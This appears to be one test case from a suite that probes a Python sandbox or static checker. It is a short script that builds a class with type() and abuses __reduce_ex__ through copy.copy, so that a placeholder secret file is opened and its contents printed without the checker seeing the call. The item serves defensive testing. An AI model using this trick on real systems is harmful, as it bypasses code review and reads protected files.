# class: exec-eval
# technique: a class made by type() with a method table the compiler did not see
# success: output_has @@CANARY@@
import copy
K = type('K', (), {'__reduce_ex__': lambda self, p: (open, ('@@SECRET@@',))})
print(copy.copy(K()).read())
